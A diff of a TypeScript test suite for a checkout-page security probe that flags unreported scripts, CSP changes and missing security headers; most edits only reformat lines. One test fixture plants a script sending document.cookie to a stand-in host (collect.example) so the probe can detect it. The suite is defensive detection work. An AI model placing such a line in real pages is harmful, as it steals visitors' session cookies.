@@ -178,8 +178,12 @@ test('a script added under the checkout’s own path: exit 1, page security has 
   origin.content.bodies[added] = 'fetch("https://collect.example/" + document.cookie);\n';
   const run = await probe();
   expect(run.code).toBe(1);
-  expect(alertsOf(run)).toEqual([{ kind: 'script-unreported', url: added, sha256: sha256(origin.content.bodies[added]!) }]);
-  expect(run.stderr).toContain(`${HOST}/pay (inventory checkout-scripts): script not reported by page security: ${added} ran on the page`);
+  expect(alertsOf(run)).toEqual([
+    { kind: 'script-unreported', url: added, sha256: sha256(origin.content.bodies[added]) },
+  ]);
+  expect(run.stderr).toContain(
+    `${HOST}/pay (inventory checkout-scripts): script not reported by page security: ${added} ran on the page`,
+  );
 });
 
 test('a script from a host the CSP now allows: exit 1, the CSP header changed, the script unauthorized and unreported', async () => {
@@ -202,7 +206,9 @@ test('a script from a host the CSP now allows: exit 1, the CSP header changed, t
     { kind: 'script-unauthorized', url: skimmer, sha256: sha256('void "skim";\n') },
     { kind: 'script-unreported', url: skimmer, sha256: sha256('void "skim";\n') },
   ]);
-  expect(run.stderr).toContain(`header changed: content-security-policy expected ${CSP} (the stack's CspPolicy checkout-enforce), received ${widened}`);
+  expect(run.stderr).toContain(
+    `header changed: content-security-policy expected ${CSP} (the stack's CspPolicy checkout-enforce), received ${widened}`,
+  );
   expect(run.stderr).toContain(`unauthorized script: ${skimmer} ran and no entry of the inventory authorizes it`);
 });
 
@@ -234,11 +240,29 @@ test('a pinned header removed and another changed: exit 1, each named with the v
   const run = await probe();
   expect(run.code).toBe(1);
   expect(alertsOf(run)).toEqual([
-    { kind: 'header-changed', header: 'strict-transport-security', expected: HSTS, received: null, pinnedBy: 'inventory', managedBy: [] },
-    { kind: 'header-changed', header: 'x-frame-options', expected: 'DENY', received: 'SAMEORIGIN', pinnedBy: 'inventory', managedBy: [] },
+    {
+      kind: 'header-changed',
+      header: 'strict-transport-security',
+      expected: HSTS,
+      received: null,
+      pinnedBy: 'inventory',
+      managedBy: [],
+    },
+    {
+      kind: 'header-changed',
+      header: 'x-frame-options',
+      expected: 'DENY',
+      received: 'SAMEORIGIN',
+      pinnedBy: 'inventory',
+      managedBy: [],
+    },
   ]);
-  expect(run.stderr).toContain(`header missing: strict-transport-security expected ${HSTS} (the inventory's headers), received none`);
-  expect(run.stderr).toContain("header changed: x-frame-options expected DENY (the inventory's headers), received SAMEORIGIN");
+  expect(run.stderr).toContain(
+    `header missing: strict-transport-security expected ${HSTS} (the inventory's headers), received none`,
+  );
+  expect(run.stderr).toContain(
+    "header changed: x-frame-options expected DENY (the inventory's headers), received SAMEORIGIN",
+  );
 });
 
 test('the page down: exit 1, the page did not load, and nothing else is judged', async () => {
@@ -257,7 +281,9 @@ test('no browser: exit 2 with what to install, before the stack or the service i
     'edgeguard-probe: the probe could not be done: --browser /nonexistent/chromium is not an executable file',
   );
 
-  const none = await runToEnd(process.execPath, [PROBE_CLI, '--cwd', engine.workDir], { env: { PATH: '/nonexistent' } });
+  const none = await runToEnd(process.execPath, [PROBE_CLI, '--cwd', engine.workDir], {
+    env: { PATH: '/nonexistent' },
+  });
   expect(none.status).toBe(2);
   expect(none.stderr).toBe(
     'edgeguard-probe: the probe could not be done: no Chromium or Chrome on PATH (looked for chromium, chromium-browser, google-chrome, google-chrome-stable, chrome): install one (apt-get install chromium) or give its path with --browser PATH\n',
